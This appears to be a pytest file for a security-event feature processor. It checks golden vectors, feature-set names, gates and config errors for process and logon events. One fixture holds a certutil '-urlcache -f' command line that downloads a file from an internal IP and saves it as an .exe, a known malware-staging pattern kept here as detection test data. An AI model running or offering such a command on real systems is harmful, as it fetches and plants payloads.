"""Named sets: their golden vectors, and how a config's names become a set."""

import math
from typing import NamedTuple

import pytest
from msgspec.structs import replace

from processor.events.event import Event, Kind
from processor.features.gates import MAX_LENGTH
from processor.features.sets import (
    Counts,
    Gate,
    Vector,
    build,
    defaults,
    feature_names,
    gate_names,
    set_names,
)

CERTUTIL = Event(
    kind="process",
    format="windows_security",
    code="4688",
    time=1_547_529_864_010,
    host="MSTICAlertsWin1",
    system_session=True,
    executable="C:\\Windows\\System32\\certutil.exe",
    command_line='CertUtil.exe -urlcache -f "http://10.1.2.3/a$b?x=1" C:\\T\\%a%.exe',
)
UNICODE = Event(
    kind="process",
    format="sysmon",
    code="1",
    time=None,
    host="x",
    executable="/home/ägypten/Ü",
    command_line="Ünï côDe\u00a0\u2013 数 \u201cq\u201d",
)
LOGON = Event(
    kind="logon",
    format="windows_security",
    code="4624",
    time=1_547_529_864_010,
    host="x",
    account="DMEVALS\\pbeesly",
    logon_type=3,
    source_ip="10.0.1.4",
    authentication_package="Kerberos",
)


class Golden(NamedTuple):
    """What a set measures of an event under a version."""

    kind: Kind
    name: str
    version: int
    event: Event
    gate: Gate
    counts: Counts
    vector: Vector


# If a value changes, the set's version must be raised with it.
GOLDEN = [
    Golden(
        "process",
        "command_shape",
        2,
        CERTUTIL,
        ("c:\\windows\\system#\\certutil.exe", True),
        (23, 64, 4717, 5, 3),
        (3.1780538303479458, 4.174387269895637, 1.17925, 0.78125, 0.234375),
    ),
    Golden(
        "process",
        "command_shape",
        2,
        UNICODE,
        ("/home/<user>/ü", False),
        (4, 16, 3703, 3, 3),
        (1.6094379124341003, 2.833213344056216, 0.92575, 1.875, 0.9375),
    ),
    Golden(
        "process",
        "msticpy",
        1,
        CERTUTIL,
        (),
        (23, 3138, 1),
        (0.007329312000479937, 0.9999730894567845, 0.0003186657391513016),
    ),
    Golden(
        "process", "msticpy", 1, UNICODE, (), (4, 1677, 0), (0.0023852049025515575, 0.9999971553947404, 0.0)
    ),
    Golden("logon", "logon_shape", 2, LOGON, ("dmevals\\pbeesly", "10.0.1.4"), (3, 2), (3.0, 2.0)),
    Golden("logon", "msticpy", 1, LOGON, (), (1372, 3), (0.9999976094230169, 0.002186583694073652)),
]


@pytest.mark.parametrize("golden", GOLDEN, ids=lambda golden: f"{golden.kind}-{golden.name}")
def test_golden_vectors_hold_for_their_version(golden: Golden) -> None:
    """Windows that were stored under a version stay comparable: bit-equal values, or another version."""
    chosen = defaults(golden.kind, golden.name)
    features = build(golden.kind, golden.name, chosen["normalize"], chosen["gate"])  # type: ignore[arg-type]

    assert (golden.version, golden.gate, golden.counts) == (features.version, *features.measure(golden.event))
    assert golden.vector == features.vector(golden.counts)


def test_every_named_set_has_golden_vectors() -> None:
    """A new set comes with its golden vectors."""
    kinds: tuple[Kind, ...] = ("process", "logon")

    assert {(kind, name) for kind in kinds for name in set_names(kind)} == {
        (row.kind, row.name) for row in GOLDEN
    }


def test_a_logon_that_names_no_package_is_one_by_password() -> None:
    """Which fields a line has would tell how it ended: sshd names the method of known users alone."""
    features = build("logon", "logon_shape", "none", ["account", "source_address"])
    counts = [
        features.measure(replace(LOGON, authentication_package=package))[1][1]
        for package in ("", "password", " Password ", "publickey", "NTLM")
    ]

    assert [0, 0, 0, 9, 3] == counts


def test_a_list_of_features_is_a_set() -> None:
    """Any features in the order given; one that shares its integer with another does not repeat it."""
    features = build("process", ["pathLogScore", "pathScore", "length"], "none", ["system_session"])
    gate, counts = features.measure(CERTUTIL)

    assert ((True,), (3138, 64)) == (gate, counts)
    assert (math.log10(3138), 3138.0, math.log1p(64)) == features.vector(counts)
    assert ("pathLogScore", "pathScore", "length") == features.columns


def test_a_row_of_zeros_stays_zeros_when_normalised() -> None:
    """As scikit-learn's Normalizer leaves it."""
    assert (0.0, 0.0) == build("logon", "msticpy", "l2", []).vector((0, 0))


@pytest.mark.parametrize(
    ("kind", "features", "gate", "message"),
    [
        (
            "process",
            "comand_shape",
            [],
            "process has no feature set 'comand_shape'; sets: command_shape, msticpy",
        ),
        (
            "logon",
            ["AccountNum", "pathScore"],
            [],
            "logon has no feature 'pathScore'; features: logon_type, ",
        ),
        ("logon", "msticpy", ["folder"], "logon has no gate 'folder'; gates: system_session, account, "),
        ("process", ["pathScore", "pathScore"], [], "feature 'pathScore' is named twice"),
        ("process", "msticpy", ["folder", "folder"], "gate 'folder' is named twice"),
        ("process", [], [], "the list of features is empty"),
    ],
)
def test_names_that_do_not_exist_are_told_with_those_that_do(
    kind: Kind, features: str | list[str], gate: list[str], message: str
) -> None:
    """A wrong name in a config names what would be right."""
    with pytest.raises(ValueError, match="^" + message.replace("(", "\\(")):
        build(kind, features, "none", gate)


def test_defaults_are_the_contracts() -> None:
    """What process.gate, normalize and eps are where the config does not say."""
    shape = {"gate": ("executable_masked", "system_session"), "normalize": "none", "eps": 0.1}

    assert shape == defaults("process", "command_shape")
    assert shape == defaults("process", ["pathScore"])
    assert {"gate": (), "normalize": "l2", "eps": 1e-4} == defaults("process", "msticpy")
    assert {"gate": ("account", "source_address"), "normalize": "none", "eps": 0.5} == defaults(
        "logon", "logon_shape"
    )


def test_msticpys_features_can_be_named() -> None:
    """Everything that settings_sweep.csv sets, and what the contract names."""
    assert {
        "commandlineTokensFull",
        "commandlineLen",
        "commandlineLogLen",
        "commandlineScore",
        "commandlineScoreLog",
        "commandlineTokensHash",
        "pathScore",
        "pathLogScore",
        "pathHash",
        "isSystemSession",
    } <= set(feature_names("process"))
    assert {"AccountNum", "LogonType", "LogonHour"} <= set(feature_names("logon"))
    assert {"executable_masked", "system_session"} <= set(gate_names("process"))


def test_a_long_path_is_bounded_in_the_gate_and_still_itself() -> None:
    """A gate is kept as long as its vectors are: its size is bounded, its identity is not lost."""
    long = ["/a" * 2500 + end for end in "xy"]
    gates = [
        build("process", "msticpy", "none", ["executable_masked"]).measure(
            Event(kind="process", format="sysmon", code="1", time=None, host="", executable=path)
        )[0]
        for path in long
    ]

    assert gates[0] != gates[1]
    assert [MAX_LENGTH, MAX_LENGTH] == [len(str(gate[0])) for gate in gates]
